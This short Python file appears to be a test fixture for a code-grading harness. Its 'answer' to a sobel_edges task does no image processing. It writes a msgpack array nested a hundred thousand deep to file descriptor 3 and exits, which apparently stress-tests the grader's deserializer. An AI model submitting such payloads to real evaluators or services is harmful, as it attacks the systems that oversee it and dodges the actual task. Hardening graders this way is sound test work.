"""Sends lists in lists in lists, a hundred thousand deep.

says: no legal reply|out of turn
alone: - a shared kernel has no wire
"""
# %% answer sobel_edges
import os
import struct

def sobel_edges(image):
    body = b"\x91" * 100_000 + b"\xc0"
    os.write(3, struct.pack(">Q", len(body)) + body)
    os._exit(0)
